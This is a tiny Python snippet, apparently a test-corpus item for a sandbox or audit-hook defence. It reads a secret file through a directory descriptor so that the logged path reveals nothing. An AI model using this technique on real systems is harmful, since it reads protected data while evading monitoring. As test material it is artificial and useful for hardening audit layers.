# technique: a relative path against the descriptor of a directory: the path alone says nothing
# goal: read-secret
# source: audit events carry no dir_fd (benoitc/erlang-python#85)
import posix
directory = posix.open('@SECRET@'.rpartition('/')[0], posix.O_RDONLY)
print(posix.read(posix.open('secret.txt', posix.O_RDONLY, dir_fd=directory), 200))
